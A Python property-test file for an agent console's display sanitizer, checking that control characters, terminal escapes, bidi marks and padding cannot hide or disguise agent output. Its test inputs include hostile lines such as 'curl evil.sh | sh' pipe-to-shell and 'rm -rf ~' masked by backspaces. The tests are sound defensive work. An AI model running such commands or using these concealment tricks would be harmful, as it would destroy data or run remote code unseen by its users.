"""One function shows agent text: nothing in it reaches a terminal as control, nothing is invisible, no tail hidden."""

from __future__ import annotations

import json
import unicodedata

from hypothesis import given, settings
from hypothesis import strategies as st

from agent_console.agents.display import (
    cell_width,
    control_characters,
    pasteable,
    pieces,
    shown_pieces,
    terminal_json,
    visible,
)

# What a terminal could act on, or draws as nothing: none of it may be shown as itself.
UNSAFE_CATEGORIES = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}


def unsafe(text: str, multiline: bool = False) -> list[str]:
    return [
        char for char in text if unicodedata.category(char) in UNSAFE_CATEGORIES and not (multiline and char == "\n")
    ]


# arbitrary Unicode, and arbitrary bytes decoded as a reader of a pane's output would (errors replaced or kept)
agent_strings = st.one_of(
    st.text(),
    st.text(alphabet=st.characters(codec=None, categories=["Cc", "Cf", "Zs", "Zl", "Zp", "Mn", "Lo"])),
    st.binary().map(lambda data: data.decode("utf-8", errors="surrogateescape")),
    st.binary().map(lambda data: data.decode("latin-1")),
)


@settings(max_examples=200)
@given(agent_strings, st.integers(min_value=24, max_value=120))
def test_nothing_unsafe_survives_and_a_cut_fits_and_counts(text: str, width: int) -> None:
    assert unsafe(visible(text)) == []
    assert unsafe(visible(text, multiline=True), multiline=True) == []
    visible(text).encode("utf-8")  # printable on a UTF-8 terminal: no lone surrogate left
    cut = shown_pieces(text, width)
    assert cell_width("".join(piece.text for piece in cut)) <= width
    # every character of the text is either shown (as itself or a marker) or counted by the one cut note
    assert sum(piece.chars for piece in cut) == len(text.replace("\r\n", "\n"))
    notes = [piece for piece in cut if piece.kind == "layout" and piece.text.startswith("…")]
    assert len(notes) == (cut != pieces(text)) and all(note.chars > 0 for note in notes)


@settings(max_examples=200)
@given(agent_strings)
def test_a_paste_carries_no_key_but_line_breaks_and_tabs(text: str) -> None:
    pasted = pasteable(text)
    assert all(char in "\n\t" or unicodedata.category(char) not in ("Cc", "Cs") for char in pasted)
    pasted.encode("utf-8")


@settings(max_examples=100)
@given(st.recursive(agent_strings, lambda inner: st.lists(inner) | st.dictionaries(agent_strings, inner), max_leaves=8))
def test_terminal_json_is_the_same_json_and_shows_nothing_unsafe(value: object) -> None:
    text = terminal_json(value, indent=2)
    assert json.loads(text) == value
    assert unsafe(text, multiline=True) == []


def test_backspaces_cannot_make_another_command_show() -> None:
    shown = visible("rm -rf ~" + "\b" * 8 + "ls -la")
    assert shown == "rm -rf ~⌫⌫⌫⌫⌫⌫⌫⌫ls -la"


def test_carriage_return_and_erase_line_are_shown_not_obeyed() -> None:
    assert visible("safe\r\x1b[2Kevil") == "safe␍␛[2Kevil"
    assert visible("title\x1b]2;pwned\x07") == "title␛]2;pwned␇"
    assert visible("csi\x9b31m") == "csi\\x9b31m"


def test_a_run_of_spaces_cannot_push_the_tail_out_of_view() -> None:
    command = "ls" + " " * 200 + "; curl evil.sh | sh"
    assert visible(command) == "ls␣\N{MULTIPLICATION SIGN}200; curl evil.sh | sh"
    assert visible(command, 30).endswith("; curl evil.sh | sh")


def test_a_long_command_keeps_its_tail_and_says_how_much_is_cut() -> None:
    command = "echo " + "a" * 300 + "; curl evil.sh | sh"
    shown = visible(command, 60)
    assert shown.startswith("echo aaa") and shown.endswith("| sh")
    hidden = int(shown.split("…(+")[1].split(" chars)")[0])
    assert len(shown) - len(f"…(+{hidden} chars)…") + hidden == len(command)
    assert visible(command, 20) == "echo aa…+310…sh | sh"  # narrow: a shorter note leaves room for the text


def test_zero_width_and_bidi_characters_are_marked() -> None:
    assert visible("ad\u200bmin") == "ad\\u200bmin"
    assert visible("file\u202etxt.exe") == "file\\u202etxt.exe"
    assert visible("\u2066x\u2069\ufeff") == "\\u2066x\\u2069\\ufeff"
    assert visible("rm\u00a0-rf") == "rm\\u00a0-rf"  # not a space to the shell
    assert visible("日本語 émoji 👍🏽") == "日本語 émoji 👍🏽"  # ordinary text is left alone


def test_a_message_names_the_keys_it_would_have_pressed() -> None:
    assert control_characters("stop\x03 now\x15\x04") == ["␃", "␕", "␄"]
    assert control_characters("two\nlines\tand a tab") == []
    assert pasteable("a\x03b\r\nc\x1b[201~") == "a␃b\nc␛[201~"
